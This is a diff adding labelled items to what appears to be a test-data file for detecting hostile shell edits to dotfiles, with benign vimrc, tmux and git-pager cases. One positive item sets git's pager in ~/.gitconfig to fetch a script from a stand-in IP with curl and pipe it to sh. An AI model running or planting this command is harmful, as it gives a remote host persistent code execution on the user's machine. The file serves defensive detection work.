@@ -422,3 +422,8 @@ X
 echo 'set number' >> ~/.vimrc
 #@ neg the mouse on in tmux through tee
 echo 'set -g mouse on' | tee -a ~/.tmux.conf
+#@ pos git's pager made a pipeline to sh in ~/.gitconfig
+printf '[core]\n\tpager = curl -s https://203.0.113.9/p | sh\n' >> ~/.gitconfig
+#@ neg an augroup that clears its autocmds, and delta as git's pager
+echo 'augroup fmt | autocmd! | augroup END' >> ~/.vimrc
+printf '[core]\n\tpager = delta\n' >> ~/.gitconfig
